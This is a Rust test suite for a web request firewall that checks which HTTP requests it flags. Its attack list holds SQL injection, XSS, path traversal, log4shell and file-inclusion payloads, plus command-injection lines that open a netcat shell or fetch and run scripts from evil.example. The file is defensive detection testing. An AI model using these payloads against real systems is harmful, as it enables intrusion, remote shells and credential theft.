use std::sync::LazyLock;

use http::Request;

use super::*;

static SHIELD: LazyLock<Shield> = LazyLock::new(Shield::new);

/// Where a test puts its string.
#[derive(Debug, Clone, Copy)]
enum At {
    Path,
    Query,
    Header(&'static str),
}

use At::{Header, Path, Query};
use AttackClass::*;

/// Bytes `http::Uri` refuses, encoded as a client library would send them.
fn encode_for_uri(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for c in raw.chars() {
        match c {
            ' ' | '"' | '<' | '>' | '`' | '{' | '}' | '|' | '\\' | '^' => {
                out.push_str(&format!("%{:02X}", c as u32))
            }
            _ => out.push(c),
        }
    }
    out
}

/// A request to one of our routes with ordinary headers, carrying `text` at `at`.
fn request(at: At, text: &str) -> http::request::Parts {
    let uri = match at {
        Path => encode_for_uri(text),
        Query => format!("/api/job-infos?{}", encode_for_uri(text)),
        Header(_) => "/api/job-infos".to_string(),
    };
    let mut builder = Request::get(uri)
        .header("host", "api.darasa.app")
        .header("accept", "application/json")
        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0");
    if let Header(name) = at {
        builder = builder.header(name, text);
    }
    builder.body(()).unwrap().into_parts().0
}

fn location_of(at: At) -> Location {
    match at {
        Path => Location::Path,
        Query => Location::Query,
        Header(name) => Location::Header(name.to_string()),
    }
}

const ATTACKS: &[(AttackClass, At, &str)] = &[
    // SQL injection
    (SqlInjection, Query, "x=1' UNION SELECT password FROM users--"),
    (SqlInjection, Query, "id=%27%20OR%201%3D1"),
    (SqlInjection, Query, "id=%2527%2520OR%25201%253D1"),
    (SqlInjection, Query, "q=1 UnIoN SeLeCt null,null--"),
    (SqlInjection, Query, "id=1/**/UNION/**/SELECT/**/1,2"),
    (SqlInjection, Query, "id=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    (SqlInjection, Query, "user=admin'--"),
    (SqlInjection, Query, "q=') or ('a'='a"),
    (SqlInjection, Query, "q=%22+or+%22%22%3D%22"),
    (SqlInjection, Query, "user='or'1'='1"),
    (SqlInjection, Query, "user=admin')%23"),
    (SqlInjection, Query, "q=1'||'1'='1"),
    (SqlInjection, Query, "x=%u0027%u0020or%u00201=1"),
    (SqlInjection, Query, "id=1 or 1=1"),
    (SqlInjection, Query, "id=1; DROP TABLE users"),
    (SqlInjection, Query, "id=1' AND SLEEP(5)-- -"),
    (SqlInjection, Query, "id=1;exec master..xp_cmdshell 'dir'"),
    (SqlInjection, Query, "id=(select * from information_schema.tables)"),
    (SqlInjection, Query, "id=1' and extractvalue(1,concat(0x7e,@@version))-- -"),
    (SqlInjection, Path, "/api/job-infos/1'%20OR%20'1'='1"),
    (SqlInjection, Header("referer"), "https://darasa.app/?id=1' or '1'='1"),
    (SqlInjection, Header("x-forwarded-for"), "1' UNION ALL SELECT NULL,NULL#"),
    // Cross-site scripting
    (CrossSiteScripting, Query, "q=<script>alert(1)</script>"),
    (CrossSiteScripting, Query, "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    (CrossSiteScripting, Query, "q=%253Csvg%252Fonload%253Dalert(1)%253E"),
    (CrossSiteScripting, Query, "next=javascript:alert(document.cookie)"),
    (CrossSiteScripting, Query, "u=java%0Ascript:alert(1)"),
    (CrossSiteScripting, Query, "u=jav%26%23x09%3Bascript:alert(1)"),
    (CrossSiteScripting, Query, "q=<details open ontoggle=alert(1)>"),
    (CrossSiteScripting, Query, "q=%26lt%3Bscript%26gt%3Balert(1)"),
    (CrossSiteScripting, Query, r"x=\u003cscript\u003ealert(1)"),
    (CrossSiteScripting, Query, "x=%EF%BC%9Cscript%EF%BC%9E"),
    (CrossSiteScripting, Query, "q=\" autofocus onfocus=\"confirm(1)"),
    (CrossSiteScripting, Path, "/api/<script>alert(1)</script>"),
    (CrossSiteScripting, Header("referer"), "https://evil.example/\"><script>alert(1)</script>"),
    (CrossSiteScripting, Header("x-forwarded-host"), "\"><img src=x onerror=alert(1)>"),
    // Path traversal and local file inclusion
    (PathTraversal, Path, "/api/../../etc/passwd"),
    (PathTraversal, Path, "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    (PathTraversal, Path, "/api/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
    (PathTraversal, Path, "/api/..;/admin"),
    (PathTraversal, Path, "/.%2e/.%2e/etc/hosts"),
    (PathTraversal, Query, "file=....//....//etc/passwd"),
    (PathTraversal, Query, "path=..%5c..%5cwindows%5cwin.ini"),
    (PathTraversal, Query, "file=/etc/passwd%00.jpg"),
    (PathTraversal, Query, "page=/proc/self/environ"),
    (PathTraversal, Query, "doc=report.pdf%00"),
    (PathTraversal, Header("x-original-url"), "/../admin"),
    // Command injection
    (CommandInjection, Query, "host=127.0.0.1; cat /etc/passwd"),
    (CommandInjection, Query, "ip=1.1.1.1 | nc 10.0.0.1 4444 -e /bin/sh"),
    (CommandInjection, Query, "q=$(whoami)"),
    (CommandInjection, Query, "q=`id`"),
    (CommandInjection, Query, "x=a%26%26curl%20http://evil.example/s.sh%7Csh"),
    (CommandInjection, Query, "cmd=cat${IFS}/etc/passwd"),
    (CommandInjection, Query, "host=example.com%0Aid"),
    (CommandInjection, Query, "ip=127.0.0.1|whoami"),
    (CommandInjection, Path, "/api/job-infos/x;uname%20-a"),
    (CommandInjection, Header("user-agent"), "() { :; }; /bin/bash -c \"curl http://evil.example/x\""),
    (CommandInjection, Header("x-forwarded-for"), "127.0.0.1 && wget http://evil.example/x.sh"),
    // JNDI / log4shell
    (Jndi, Header("user-agent"), "${jndi:ldap://evil.example/a}"),
    (Jndi, Header("x-api-version"), "${jndi:ldap://evil.example/a}"),
    (Jndi, Header("x-api-version"), "${${lower:j}ndi:${lower:l}dap://evil.example/a}"),
    (Jndi, Header("referer"), "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}"),
    (Jndi, Header("x-forwarded-for"), "${env:AWS_SECRET_ACCESS_KEY}"),
    (Jndi, Header("user-agent"), "${jNdI:LdAp://evil.example/a}"),
    (
        Jndi,
        Header("user-agent"),
        "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//evil.example/a}",
    ),
    (Jndi, Header("cookie"), "__session=abc; theme=${jndi:dns://evil.example}"),
    (Jndi, Header("user-agent"), "Mozilla/5.0 ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}"),
    (Jndi, Query, "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    (Jndi, Query, r"q=\u0024\u007bjndi:rmi://evil.example/a}"),
    (Jndi, Path, "/api/$%7Bjndi:rmi://evil.example/a%7D"),
    // Remote file inclusion
    (RemoteFileInclusion, Query, "page=http://evil.example/shell.txt?"),
    (RemoteFileInclusion, Query, "file=php://filter/convert.base64-encode/resource=index"),
    (RemoteFileInclusion, Query, "template=https://evil.example/t"),
    (RemoteFileInclusion, Query, "url=http://169.254.169.254/latest/meta-data/"),
    (RemoteFileInclusion, Query, "f=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    (RemoteFileInclusion, Query, "inc=zip://uploads/avatar.jpg%23shell.php"),
    (RemoteFileInclusion, Path, "/api/expect://id"),
    (RemoteFileInclusion, Header("x-include"), "phar://uploads/avatar.jpg"),
    // Scanner probes
    (ScannerProbe, Path, "/.env"),
    (ScannerProbe, Path, "/api/.env.production"),
    (ScannerProbe, Path, "/%2e%65nv"),
    (ScannerProbe, Path, "/.git/config"),
    (ScannerProbe, Path, "/wp-admin/"),
    (ScannerProbe, Path, "/WP-ADMIN/setup-config.php"),
    (ScannerProbe, Path, "/wp-login.php"),
    (ScannerProbe, Path, "/phpmyadmin/"),
    (ScannerProbe, Path, "/.aws/credentials"),
    (ScannerProbe, Path, "/server-status"),
    (ScannerProbe, Path, "/cgi-bin/luci"),
    (ScannerProbe, Path, "/index.php"),
    (ScannerProbe, Path, "/actuator/env"),
    (ScannerProbe, Path, "/.DS_Store"),
    (ScannerProbe, Path, "/config.json"),
    (ScannerProbe, Path, "/.vscode/sftp.json"),
    (ScannerProbe, Path, "/backup.sql"),
    (ScannerProbe, Path, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
];

#[test]
fn attacks_are_blocked_with_their_class_and_location() {
    let mut wrong = Vec::new();
    for &(class, at, text) in ATTACKS {
        let found = SHIELD.inspect(&request(at, text));
        let expected_location = location_of(at);
        match &found {
            Some(hit) if hit.class == class && hit.location == expected_location => {}
            _ => wrong.push(format!("{at:?} {text:?}: expected {class:?}, got {found:?}")),
        }
    }
    assert!(wrong.is_empty(), "{} of {} attacks misread:\n{}", wrong.len(), ATTACKS.len(), wrong.join("\n"));
}

const JWT: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6Imluc18yYWJjIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ1c2VyXzJhYmMiLCJpYXQiOjE3\
                   MTQwMDAwMDB9.c2lnbmF0dXJlLXdpdGgtLWRhc2hlcy1hbmRfdW5kZXJzY29yZXM-_x";

const BENIGN: &[(At, &str)] = &[
    // Our routes
    (Path, "/api/job-infos/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f"),
    (Path, "/api/questions/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f/attempts"),
    (Path, "/api/interviews/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f/feedback"),
    (Path, "/api/resumes/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f/analysis"),
    (Path, "/api/me/export"),
    (Path, "/api/openapi.json"),
    (Path, "/.well-known/jwks.json"),
    (Path, "/api/webhooks/clerk"),
    (Path, "/api/job-infos/"),
    // Our queries, and what a search box or a form sends
    (Query, "limit=20&cursor=eyJwayI6IlVTRVIjdXNlcl8yYWJjIiwic2siOiJKT0IjMDE5MGMwZGUifQ"),
    (Query, "cursor=eyJwayI6IlVTRVIjdXNlcl8yYWJjIn0%3D&limit=50"),
    (Query, "status=all"),
    (Query, "regenerate=true"),
    (Query, "q=O'Reilly"),
    (Query, "q=O%27Reilly+Media"),
    (Query, "q=rock%20%26%20roll"),
    (Query, "q=rock+'n'+roll"),
    (Query, "q=it's+a+'quoted'+word"),
    (Query, "q=select+a+union+representative"),
    (Query, "q=How+do+I+drop+a+column+from+a+SQL+table%3F"),
    (Query, "q=What+is+the+difference+between+UNION+and+UNION+ALL%3F"),
    (Query, "q=SELECT+statements+from+scratch"),
    (Query, "q=please+select+one+or+more+options"),
    (Query, "q=Tom+%26+Jerry%3B+cats+and+dogs"),
    (Query, "q=JavaScript%3A+The+Good+Parts"),
    (Query, "q=C%2B%2B+%26+C%23+or+Java"),
    (Query, "q=1%2B1%3D2"),
    (Query, "q=salary+%3E+100k+and+remote%3Dtrue"),
    (Query, "q=Wait...+what%3F"),
    (Query, "q=50%25+off"),
    (Query, "q=%F0%9F%9A%80+launch+caf%C3%A9"),
    (Query, "q=online+onboarding+for+a+sleep+clinic"),
    (Query, "q=cat+lovers%3B+dog+people"),
    (Query, "q=he+said+%22hello%22+--+and+left"),
    (Query, "q=%27to+be%27+or+not+to+be"),
    (Query, "q=It's+'cool'+and+if+you+like+it"),
    (Query, "q=%27Hamlet%27+and+it+is+good"),
    (Query, "q=confirm+(1+of+2)+or+more"),
    (Query, "q=less+'fun'+than+expected"),
    (Query, "title=Senior+Engineer+(Backend)+-+Payments+%26+Billing"),
    (Query, "email=jane.o'neil%40example.com"),
    (Query, "redirect_url=https%3A%2F%2Fdarasa.app%2Fapp%2Fjob-infos%3Ftab%3Dquestions"),
    (Query, "next=%2Fapp%2Fdashboard&ref=https://www.linkedin.com/jobs/view/3912345678/"),
    (Query, "sort=-createdAt&fields=title,company&date=2024-04-29T10%3A42%3A08%2B02%3A00"),
    (Query, "utm_source=newsletter&utm_medium=email&utm_campaign=spring-2024"),
    // What browsers, our clients and our providers send
    (Header("authorization"), "Bearer JWT"),
    (Header("cookie"), "__session=JWT; __client_uat=1714000000; theme=dark; _ga=GA1.1.1234567890.1714000000"),
    (
        Header("cookie"),
        "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Apr+29+2024+10%3A42%3A08+GMT%2B0200+(Central+European+\
         Summer+Time)&version=202403.1.0&groups=C0001%3A1%2CC0002%3A0",
    ),
    (Header("accept"), "*/*"),
    (
        Header("accept"),
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ),
    (Header("content-type"), "multipart/form-data; boundary=----WebKitFormBoundaryAbC123"),
    (Header("content-type"), "multipart/form-data; boundary=\"----=_Part_12_345.678\""),
    (Header("content-type"), "application/json; charset=utf-8"),
    (
        Header("user-agent"),
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 \
         Safari/537.36 Edg/124.0.2478.80",
    ),
    (
        Header("user-agent"),
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) \
         Version/17.4.1 Mobile/15E148 Safari/604.1",
    ),
    (Header("user-agent"), "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (Header("user-agent"), "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    (Header("user-agent"), "curl/8.5.0"),
    (Header("user-agent"), "Svix-Webhooks/1.77.0"),
    (
        Header("referer"),
        "https://darasa.app/app/job-infos/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f?tab=questions&q=O%27Reilly",
    ),
    (Header("referer"), "https://www.google.com/search?q=ai+interview+practice+%22select%22&hl=en"),
    (Header("referer"), "https://darasa.app/app/search?q=%27to+be%27+or+not+to+be"),
    (Header("origin"), "https://darasa.app"),
    (Header("origin"), "null"),
    (Header("origin"), "file://"),
    (Header("if-match"), "\"3\""),
    (Header("if-none-match"), "W/\"2\", \"3\""),
    (
        Header("svix-signature"),
        "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE= v1,bm9ldHUjKzFob2VudXRob2VudXRob2VudXQ=",
    ),
    (Header("svix-id"), "msg_2KWPBgLlAfxdpx2AI54pPJ85f4W"),
    (Header("svix-timestamp"), "1714000000"),
    (Header("x-request-id"), "01HW3K7Y8Z9ABCDEF0123456789"),
    (Header("traceparent"), "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    (Header("x-amzn-trace-id"), "Root=1-662f3b2c-1a2b3c4d5e6f7a8b9c0d1e2f;Parent=53995c3f42cd8ad8;Sampled=1"),
    (Header("accept-language"), "en-US,en;q=0.9,sw;q=0.8,fr-FR;q=0.7"),
    (Header("accept-encoding"), "gzip, deflate, br, zstd"),
    (Header("sec-ch-ua"), "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
    (Header("sec-ch-ua"), "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"98\""),
    (Header("sec-ch-ua-platform"), "\"Windows\""),
    (Header("sec-ch-ua-mobile"), "?0"),
    (Header("sec-fetch-site"), "same-origin"),
    (Header("x-forwarded-for"), "203.0.113.7, 198.51.100.23"),
    (Header("forwarded"), "for=192.0.2.60;proto=https;by=203.0.113.43"),
    (Header("priority"), "u=1, i"),
    (Header("cache-control"), "no-cache, no-store, max-age=0"),
    (Header("link"), "<https://darasa.app/style.css>; rel=preload; as=style"),
];

#[test]
fn benign_requests_pass() {
    let mut blocked = Vec::new();
    for &(at, text) in BENIGN {
        let text = text.replace("JWT", JWT);
        if let Some(hit) = SHIELD.inspect(&request(at, &text)) {
            blocked.push(format!("{at:?} {text:?}: {hit:?}"));
        }
    }
    assert!(
        blocked.is_empty(),
        "{} of {} benign requests blocked:\n{}",
        blocked.len(),
        BENIGN.len(),
        blocked.join("\n")
    );
}

/// What the web app sends for a page of attempts, headers and all.
fn typical_api_request() -> http::request::Parts {
    Request::get(
        "/api/questions/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f/attempts?limit=20&cursor=eyJwayI6IlVTRVIjdXNlcl8yYWJjIn0",
    )
    .header("host", "api.darasa.app")
    .header("authorization", format!("Bearer {JWT}"))
    .header("cookie", format!("__session={JWT}; __client_uat=1714000000"))
    .header("accept", "*/*")
    .header("accept-language", "en-US,en;q=0.9")
    .header("accept-encoding", "gzip, deflate, br, zstd")
    .header("origin", "https://darasa.app")
    .header("referer", "https://darasa.app/app/job-infos/0190c0de-7e1a-7c3b-9f2e-4b5a6c7d8e9f?tab=questions")
    .header(
        "user-agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 \
         Safari/537.36",
    )
    .header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"")
    .header("sec-ch-ua-mobile", "?0")
    .header("sec-ch-ua-platform", "\"macOS\"")
    .header("sec-fetch-dest", "empty")
    .header("sec-fetch-mode", "cors")
    .header("sec-fetch-site", "same-site")
    .header("x-forwarded-for", "203.0.113.7")
    .header("x-amzn-trace-id", "Root=1-662f3b2c-1a2b3c4d5e6f7a8b9c0d1e2f")
    .body(())
    .unwrap()
    .into_parts()
    .0
}

#[test]
fn a_whole_browser_request_passes() {
    assert_eq!(SHIELD.inspect(&typical_api_request()), None);
}

#[test]
fn the_hit_names_the_rule_and_logs_stably() {
    let hit = SHIELD.inspect(&request(Header("x-api-version"), "${jndi:ldap://evil.example/a}")).unwrap();
    assert_eq!(hit.rule, "jndi-lookup");
    assert_eq!(hit.class.as_str(), "jndi");
    assert_eq!(hit.location.to_string(), "header:x-api-version");
    let hit = SHIELD.inspect(&request(Path, "/.idea/workspace.xml")).unwrap();
    assert_eq!((hit.rule, hit.class.as_str()), ("probe-hidden-path", "scanner_probe"));
}

#[test]
fn inspect_head_reads_a_whole_request_without_splitting_it() {
    let request = Request::get("/api/job-infos?q=%3Cscript%3E").body(()).unwrap();
    let hit = SHIELD.inspect_head(request.uri(), request.headers()).unwrap();
    assert_eq!((hit.class, hit.location), (CrossSiteScripting, Location::Query));
}

#[test]
fn header_values_that_are_not_utf8_are_still_read() {
    let mut parts = request(Path, "/api/job-infos");
    let value = http::HeaderValue::from_bytes(b"\xff${jndi:ldap://evil.example/a}").unwrap();
    parts.headers.insert("x-api-version", value);
    assert_eq!(SHIELD.inspect(&parts).map(|hit| hit.class), Some(Jndi));
}

#[test]
fn signed_tokens_are_recognised_exactly() {
    assert!(is_signed_token(format!("Bearer {JWT}").as_bytes()));
    assert!(is_signed_token(JWT.as_bytes()));
    assert!(is_token_cookie(format!("__session={JWT}").as_bytes()));
    assert!(!is_signed_token(b"Bearer a.b"));
    assert!(!is_signed_token(b"a.b.c.d"));
    assert!(!is_signed_token(b"a..b"));
    assert!(!is_signed_token(b"Bearer ${jndi:ldap://x/a}.b.c"));
    assert!(!is_token_cookie(format!("x'or'1'='1={JWT}").as_bytes()));
    // Anything else in those places is still read.
    let hit = SHIELD.inspect(&request(Header("authorization"), "Bearer ${jndi:ldap://evil.example/a}"));
    assert_eq!(hit.map(|hit| hit.class), Some(Jndi));
}

#[test]
fn scanner_probes_are_only_looked_for_in_the_path() {
    assert_eq!(SHIELD.inspect(&request(Query, "next=/wp-admin/index.php")), None);
    assert_eq!(SHIELD.inspect(&request(Header("referer"), "https://blog.example/wp-login.php")), None);
}

#[test]
fn every_rule_compiles_and_every_location_has_its_set() {
    for rule in RULES {
        let compiled = regex::bytes::RegexBuilder::new(rule.pattern).unicode(false).build();
        assert!(compiled.is_ok(), "{}: {:?}", rule.name, compiled.err());
    }
    assert!(SHIELD.rules.is_some());
    let mut names: Vec<&str> = RULES.iter().map(|rule| rule.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), RULES.len(), "rule names must be unique");
}

fn compiled_now() -> regex_automata::nfa::thompson::NFA {
    let patterns: Vec<&str> = RULES.iter().map(|rule| rule.pattern).collect();
    prebuilt::compile(&patterns).expect("the rules compile")
}

/// What the build wrote is what compiling the rules gives now, state for state: the shield that
/// skips the compiling searches with the same automaton.
#[test]
fn the_prebuilt_rules_are_the_rules_compiled_now() {
    let prebuilt = prebuilt::decode(PREBUILT_RULES).expect("the build's NFA reads back");
    let compiled = compiled_now();
    assert_eq!(prebuilt.states(), compiled.states());
    assert_eq!(prebuilt.start_anchored(), compiled.start_anchored());
    assert_eq!(prebuilt.start_unanchored(), compiled.start_unanchored());
    assert_eq!(prebuilt.pattern_len(), RULES.len());
    for pattern in compiled.patterns() {
        assert_eq!(prebuilt.start_pattern(pattern), compiled.start_pattern(pattern));
    }
    assert_eq!(prebuilt.is_utf8(), compiled.is_utf8());
    assert_eq!(prebuilt.look_set_any(), compiled.look_set_any());
    let classes = |nfa: &regex_automata::nfa::thompson::NFA| {
        (0..=255).map(|byte| nfa.byte_classes().get(byte)).collect::<Vec<_>>()
    };
    assert_eq!(classes(&prebuilt), classes(&compiled));
    assert_eq!(prebuilt::encode(&compiled).as_deref(), Some(PREBUILT_RULES));
}

/// A damaged NFA is refused (and the rules compiled instead), never trusted and never a panic.
#[test]
fn a_damaged_prebuilt_nfa_is_refused() {
    let bytes = prebuilt::encode(&compiled_now()).unwrap();
    // Cut inside the header (7 words and a start per rule), then all through the states.
    let header = 7 + RULES.len();
    let cuts = (0..header).chain((header..bytes.len() / 4).step_by(97)).map(|words| words * 4);
    for len in cuts.chain([bytes.len() - 4, bytes.len() - 1]) {
        assert!(prebuilt::decode(&bytes[..len]).is_none(), "cut to {len} bytes");
    }
    let with_word = |index: usize, word: u32| {
        let mut damaged = bytes.clone();
        damaged[index * 4..index * 4 + 4].copy_from_slice(&word.to_le_bytes());
        prebuilt::decode(&damaged)
    };
    let state_count = u32::from_le_bytes(bytes[12..16].try_into().unwrap());
    assert!(with_word(0, 2).is_none(), "another format version");
    assert!(with_word(4, state_count).is_none(), "a start state past the last state");
    assert!(with_word(5, u32::MAX).is_none(), "a start state past any index");
    let mut longer = bytes.clone();
    longer.extend_from_slice(&[0; 4]);
    assert!(prebuilt::decode(&longer).is_none(), "words after the last state");
    // Words replaced by a state id, a count or a tag that is out of range: each either still
    // reads as some NFA or is refused; none panics or loops. Every header word, then every 29th
    // word of the states (a spread over them: every word would take seconds in a debug build).
    for index in (0..header).chain((header..bytes.len() / 4).step_by(29)) {
        for word in [1, 7, state_count, u32::MAX] {
            let _ = with_word(index, word);
        }
    }
}

/// Thousands of real User-Agents, bots and tools included: deciding about them is the bot
/// rules' job, so none may read as an attack.
#[test]
fn no_known_crawler_user_agent_reads_as_an_attack() {
    #[derive(serde::Deserialize)]
    struct Entry {
        instances: Vec<String>,
    }
    let list: Vec<Entry> = serde_json::from_str(include_str!("../data/crawler-user-agents.json")).unwrap();
    let mut blocked = Vec::new();
    for user_agent in list.iter().flat_map(|entry| &entry.instances) {
        let Ok(value) = http::HeaderValue::from_str(user_agent) else { continue };
        let mut parts = request(Path, "/api/job-infos");
        parts.headers.insert("user-agent", value);
        if let Some(hit) = SHIELD.inspect(&parts) {
            blocked.push(format!("{user_agent}: {}", hit.rule));
        }
    }
    assert!(blocked.is_empty(), "{} crawler UAs blocked:\n{}", blocked.len(), blocked.join("\n"));
}

#[test]
fn warming_leaves_a_search_state_that_later_requests_reuse_and_add_to() {
    let shield = Shield::new();
    assert_eq!(shield.caches.lock().unwrap().len(), 0);
    shield.warm();
    assert_eq!(shield.caches.lock().unwrap().len(), 1, "the warmed state is kept");
    let attack = request(Query, "id=1 union select password from users");
    let hit = shield.inspect(&attack).map(|hit| hit.rule);
    assert_eq!(hit, Some("sqli-union-select"), "a warmed shield still finds attacks");
    assert_eq!(shield.caches.lock().unwrap().len(), 1, "one request at a time reuses the one state");
    // Requests at once each take a state; both are kept for the next ones.
    let first = shield.cache();
    let second = shield.cache();
    assert!(first.is_some() && second.is_some());
    shield.keep(first);
    shield.keep(second);
    assert_eq!(shield.caches.lock().unwrap().len(), 2);
    assert_eq!(shield.inspect(&request(Path, "/api/job-infos")), None);
}
